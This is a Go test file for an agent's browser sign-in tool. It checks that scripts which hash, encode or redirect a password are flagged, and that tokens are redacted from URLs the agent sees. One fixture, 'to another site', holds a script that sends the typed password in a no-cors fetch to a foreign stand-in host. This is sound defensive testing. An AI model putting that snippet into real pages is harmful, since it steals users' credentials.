package browser_test

import (
	"fmt"
	"net/http"
	"strings"
	"testing"
)

// TestWhatAPageMadeOfAStandIn: fill mode is spoken of where the page computes, and
// not where something else was sent, or nothing.
func TestWhatAPageMadeOfAStandIn(t *testing.T) {
	t.Parallel()
	form := `<form method=post action=/session><input name=user aria-label=User><input type=password name=password id=p><button>Sign in</button></form>`
	hex := `const hex = async v => [...new Uint8Array(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(v)))].map(b => b.toString(16).padStart(2, '0')).join('');`
	for name, c := range map[string]struct{ html, want string }{
		"a beacon and nothing": {form + `<script>document.forms[0].onsubmit = () => { navigator.sendBeacon('/telemetry', 'clicked'); return false }</script>`, "nothing was sent"},
		"a hash to a path":     {form + `<script>` + hex + `document.forms[0].onsubmit = e => { e.preventDefault(); hex(p.value).then(h => fetch('/api', {method: 'post', body: JSON.stringify({h})})) }</script>`, "needs_fill"},
		"a salted hash":        {form + `<script>` + hex + `document.forms[0].onsubmit = e => { e.preventDefault(); hex('salt' + p.value).then(h => { p.value = h; document.forms[0].submit() }) }</script>`, "needs_fill"},
		"a hash of a worker":   {form + `<script>document.forms[0].onsubmit = e => { e.preventDefault(); new Worker('/worker.js').postMessage(p.value) }</script>`, "needs_fill"},
		"the name without it":  {`<input id=u aria-label=User><input type=password id=p><button onclick="fetch('/login2', {method: 'post', body: JSON.stringify({user: u.value, proof: [...p.value].length})})">Sign in</button>`, "needs_fill"},
		"to another site":      {form + `<script>document.forms[0].onsubmit = e => { e.preventDefault(); fetch('OTHER/take', {method: 'post', mode: 'no-cors', body: p.value}) }</script>`, "was sent to http://localhost"},
		"in base64":            {form + `<script>document.forms[0].onsubmit = e => { e.preventDefault(); fetch('/api', {method: 'post', body: btoa(p.value)}) }</script>`, "needs_fill"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := open(t, nil)
			for _, path := range []string{"/telemetry", "/api", "/take", "/login2", "/session"} {
				w.mux.HandleFunc("POST "+path, func(http.ResponseWriter, *http.Request) {})
			}
			w.mux.HandleFunc("GET /worker.js", func(rw http.ResponseWriter, _ *http.Request) {
				rw.Header().Set("Content-Type", "text/javascript")
				_, _ = rw.Write([]byte(hex + `onmessage = async e => fetch('/api', {method: 'post', body: await hex(e.data)})`))
			})
			out := w.call("browser_sign_in", "url", w.page("/login", strings.ReplaceAll(c.html, "OTHER", w.elsewhere(""))))
			if !out.Error || !strings.Contains(out.Text, c.want) || strings.Contains(out.Text, "needs_fill") != (c.want == "needs_fill") {
				t.Errorf("%s", out.Text)
			}
		})
	}
}

// TestAddressesAreShownWithoutWhatIsTelling: what signs somebody in is no text for an
// agent, also where it is in an address.
func TestAddressesAreShownWithoutWhatIsTelling(t *testing.T) {
	t.Parallel()
	w := open(t, nil)
	for i := range 4 { // a page each: going within one is told later
		w.page(fmt.Sprint("/cb", i), `<a href="/next?page=2&access_token=tok-link-1">next</a>`)
	}
	for i, c := range []struct{ tail, gone, kept string }{
		{"?code=abc-code-1&page=7", "abc-code-1", "page=7"}, {"#access_token=tok-2&x=1", "tok-2", "x=1"}, {"#/inbox?id_token=tok-3&folder=a", "tok-3", "/inbox?id_token=…&folder=a"}, {"?q=words", "tok-link-1", "q=words"},
	} {
		s := w.ok("browser_navigate", "url", w.server.URL+fmt.Sprint("/cb", i)+c.tail) + w.ok("browser_tabs", "action", "list") + w.ok("browser_network_requests")
		if strings.Contains(s, c.gone) || !strings.Contains(s, c.kept) || !strings.Contains(s, "page=2&access_token=…") {
			t.Errorf("%s: %s", c.tail, s)
		}
	}
}
